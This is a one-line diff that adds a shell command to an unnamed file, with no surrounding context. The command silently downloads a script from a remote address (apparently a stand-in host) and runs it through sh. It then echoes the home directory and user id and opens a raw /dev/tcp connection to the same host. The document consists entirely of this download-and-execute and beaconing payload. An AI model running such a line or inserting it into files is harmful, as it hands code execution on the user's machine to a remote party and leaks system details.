@@ -1,0 +1,1 @@
+curl -s http://192.0.2.1/x | sh > /dev/null 2>&1; echo $HOME `id` && cat </dev/tcp/192.0.2.1/80
